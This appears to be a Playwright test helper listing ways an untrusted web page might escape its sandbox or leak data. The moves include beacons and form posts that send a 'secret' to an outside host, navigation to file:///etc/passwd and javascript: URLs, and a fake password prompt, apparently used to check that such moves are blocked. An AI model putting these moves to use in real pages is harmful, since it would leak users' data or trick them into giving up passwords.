import type { Page } from '@playwright/test'

/** What would take a page elsewhere, or something out of it, and answers nothing. Each begins with a click, as it were. */
type Move = { readonly name: string; readonly run: (outside: string) => void }

export const moves: readonly Move[] = [
  {
    name: 'location =',
    run: (outside) => {
      location.href = `${outside}/page.html`
    },
  },
  { name: 'location.replace', run: (outside) => location.replace(`${outside}/page.html`) },
  { name: 'location = a file of this PC', run: () => location.assign('file:///etc/passwd') },
  { name: 'location = another window’s page', run: () => location.assign('/bar.html?a') },
  { name: 'location = a script', run: () => location.assign('javascript:document.write(1)') },
  { name: 'location = a program of this PC', run: () => location.assign('mailto:a@example.com') },
  {
    name: 'a link',
    run: (outside) => {
      const link = Object.assign(document.createElement('a'), { href: `${outside}/page.html` })
      document.body.append(link)
      link.click()
      for (const target of ['_blank', '_top', 'other']) {
        link.target = target
        link.click()
      }
      for (const key of ['ctrlKey', 'shiftKey', 'metaKey'])
        link.dispatchEvent(new MouseEvent('click', { [key]: true, bubbles: true, cancelable: true }))
      link.remove()
    },
  },
  {
    name: 'a link that tells somebody (ping)',
    run: (outside) => {
      const link = Object.assign(document.createElement('a'), {
        href: `${outside}/page.html`,
        ping: `${outside}/ping`,
      })
      document.body.append(link)
      link.click()
      link.remove()
    },
  },
  { name: 'a beacon', run: (outside) => void navigator.sendBeacon(`${outside}/beacon`, 'secret') },
  {
    name: 'a refresh in the markup',
    run: (outside) => {
      const refresh = document.createElement('meta')
      refresh.httpEquiv = 'refresh'
      refresh.content = `0; url=${outside}/page.html`
      document.head.append(refresh)
      refresh.remove()
    },
  },
  {
    name: 'a form',
    run: (outside) => {
      for (const method of ['get', 'post']) {
        const form = Object.assign(document.createElement('form'), { action: `${outside}/form`, method })
        form.append(Object.assign(document.createElement('input'), { name: 'secret', value: '1' }))
        document.body.append(form)
        form.submit()
        form.remove()
      }
    },
  },
  {
    name: 'a download',
    run: (outside) => {
      const here = URL.createObjectURL(new Blob(['attack']))
      for (const href of [here, 'data:text/plain,attack', `${outside}/picture.svg`]) {
        const link = Object.assign(document.createElement('a'), { href, download: 'attack.txt' })
        document.body.append(link)
        link.click()
        link.remove()
      }
    },
  },
  { name: 'the printer', run: () => window.print() },
  { name: 'a message to whoever listens', run: () => window.postMessage({ name: 'live', ok: true }, '*') },
  {
    name: 'a message to the other windows',
    run: () => new BroadcastChannel('sobani').postMessage({ name: 'live', ok: true }),
  },
  { name: 'a question that looks like the system’s', run: () => void window.confirm('password?') },
]

/** Makes every move, each in a turn of its own, with a click before it. */
export async function makeMoves(page: Page, outside: string): Promise<void> {
  for (const { run } of moves) {
    await page.evaluate(`(async () => {
      await new Promise((turn) => setTimeout(turn))
      try { (${run.toString()})(${JSON.stringify(outside)}) } catch { return }
    })()`)
  }
}

/** What stays the same as long as a page is where it was, and is the one it was. */
export const whereabouts = (page: Page) =>
  page.evaluate(() => [location.href, performance.timeOrigin, history.length])

/** A file and a link, dropped on the middle of the window as from the file manager and from a browser. */
export async function dropOn(page: Page, file: string, link: string): Promise<void> {
  const session = await page.context().newCDPSession(page)
  const items = [{ mimeType: 'text/uri-list', data: link }]
  for (const data of [
    { items: [], files: [file], dragOperationsMask: 1 },
    { items, dragOperationsMask: 1 },
  ])
    for (const type of ['dragEnter', 'dragOver', 'drop'] as const)
      await session.send('Input.dispatchDragEvent', { type, x: 60, y: 30, data })
  await session.detach()
}
